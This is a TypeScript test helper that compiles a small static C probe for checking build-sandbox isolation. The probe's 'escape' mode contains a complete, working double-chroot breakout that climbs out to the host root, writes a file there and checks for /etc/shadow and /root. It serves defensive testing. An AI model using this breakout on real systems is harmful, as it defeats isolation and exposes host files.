/**
 * A static probe for build-step tests, compiled with the host's gcc (no libc needed in the image):
 *
 *   probe euid              prints its effective uid (what a setuid bit gave it)
 *   probe escape FILE       the classic double chroot (chroot into a subdirectory without entering it, climb
 *                           out with "..", chroot to where that lands), then tries to create FILE there and
 *                           reports what it did and what the root it reached holds
 */
import { execFile } from "node:child_process";
import fs from "node:fs/promises";
import path from "node:path";
import { promisify } from "node:util";

const run = promisify(execFile);

const SOURCE = `
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static void show(const char *path) {
  struct stat st;
  printf("probe: %s %s\\n", path, stat(path, &st) == 0 ? "exists" : "absent");
}
int main(int argc, char **argv) {
  if (argc >= 2 && strcmp(argv[1], "euid") == 0) { printf("euid=%d\\n", (int)geteuid()); return 0; }
  if (argc < 3 || strcmp(argv[1], "escape") != 0) { fprintf(stderr, "usage: probe euid | probe escape FILE\\n"); return 2; }
  mkdir("/.probe-escape", 0700);
  if (chroot("/.probe-escape") != 0) { printf("probe: chroot: %s\\n", strerror(errno)); return 0; }
  for (int i = 0; i < 256; i++) chdir("..");
  if (chroot(".") != 0) { printf("probe: chroot back: %s\\n", strerror(errno)); return 0; }
  chdir("/");
  int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
  printf("probe: create %s: %s\\n", argv[2], fd < 0 ? strerror(errno) : "created");
  if (fd >= 0) { write(fd, "escaped\\n", 8); close(fd); }
  show("/etc/shadow");
  show("/root");
  show("/forkd");
  FILE *map = fopen("/proc/self/uid_map", "r");
  char line[200];
  if (map && fgets(line, sizeof line, map)) printf("probe: uid_map %s", line);
  return 0;
}
`;

/** Compiles the probe to `dir/probe` (static) and returns its path. */
export async function buildProbe(dir: string): Promise<string> {
  const source = path.join(dir, "probe.c");
  const binary = path.join(dir, "probe");
  await fs.writeFile(source, SOURCE);
  await run("gcc", ["-static", "-O2", "-o", binary, source]);
  await fs.chmod(binary, 0o755);
  return binary;
}
